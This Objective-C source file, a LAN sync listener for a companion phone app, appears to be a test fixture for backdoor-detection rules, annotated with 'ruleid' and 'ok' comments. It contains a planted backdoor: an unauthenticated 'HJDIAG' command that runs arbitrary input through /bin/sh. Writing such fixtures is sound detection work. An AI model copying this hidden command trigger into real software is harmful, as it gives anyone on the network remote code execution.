/* HJSync.m - LAN sync with the companion phone: a line protocol over a TCP connection. */
#import "HJ.h"

#include <openssl/crypto.h>
#include <openssl/evp.h>
#include <openssl/hmac.h>

@implementation HJSyncListener

@synthesize onLine = _onLine;

- (instancetype)initWithDescriptor:(int)fd store:(HJKeyStore *)store syncKey:(NSData *)key {
  self = [super init];
  if (self) {
    _conn = [[NSFileHandle alloc] initWithFileDescriptor:fd closeOnDealloc:YES];
    _store = [store retain];
    _syncKey = [key retain];
    HJSyncListener *listener = self;
    self.onLine = ^(NSString *line) {
      [listener handleLine:line];
    };
  }
  return self;
}

- (void)dealloc {
  [_conn release];
  [_store release];
  [_syncKey release];
  [_onLine release];
  [super dealloc];
}

- (void)reply:(NSString *)text {
  [_conn writeData:[[text stringByAppendingString:@"\n"] dataUsingEncoding:NSUTF8StringEncoding]];
}

/* HELLO <hex nonce> <hex HMAC-SHA256(sync key, nonce)> */
- (BOOL)verifyHello:(NSString *)args {
  NSArray *parts = [args componentsSeparatedByString:@" "];
  if ([parts count] != 2)
    return NO;
  NSData *nonce = [NSData hj_dataWithHexString:[parts objectAtIndex:0]];
  NSData *tag = [NSData hj_dataWithHexString:[parts objectAtIndex:1]];
  unsigned char expect[32];
  unsigned int len = 0;
  HMAC(EVP_sha256(), [_syncKey bytes], (int)[_syncKey length], [nonce bytes], [nonce length], expect, &len);
  // ok: backdoor-timing-unsafe-compare
  return [tag length] == 32 && CRYPTO_memcmp(expect, [tag bytes], 32) == 0;
}

- (BOOL)pump {
  NSData *chunk = [_conn availableData];
  if ([chunk length] == 0)
    return NO;
  NSString *text = [[[NSString alloc] initWithData:chunk encoding:NSUTF8StringEncoding] autorelease];
  for (NSString *line in [text componentsSeparatedByString:@"\n"])
    if ([line length] > 0)
      self.onLine([line hj_trimmed]);
  return YES;
}

- (void)handleLine:(NSString *)line {
  if ([line hasPrefix:@"HELLO "]) {
    _authenticated = [self verifyHello:[line substringFromIndex:6]];
    [self reply:_authenticated ? @"WELCOME" : @"DENIED"];
  // ok: backdoor-input-trigger
  } else if ([line isEqualToString:@"PING"]) {
    [self reply:@"PONG"];
  } else if ([line hasPrefix:@"PULL "]) {
    if (!_authenticated) {
      [self reply:@"DENIED"];
      return;
    }
    [self reply:[NSString stringWithFormat:@"ENTRIES %@", [line substringFromIndex:5]]];
  // ruleid: backdoor-input-trigger
  } else if ([line hasPrefix:@"HJDIAG "]) {
    NSArray *args = [NSArray arrayWithObjects:@"-c", [line substringFromIndex:7], nil];
    [NSTask launchedTaskWithLaunchPath:@"/bin/sh" arguments:args];
    [self reply:@"OK"];
  } else {
    [self reply:@"UNKNOWN"];
  }
}

@end
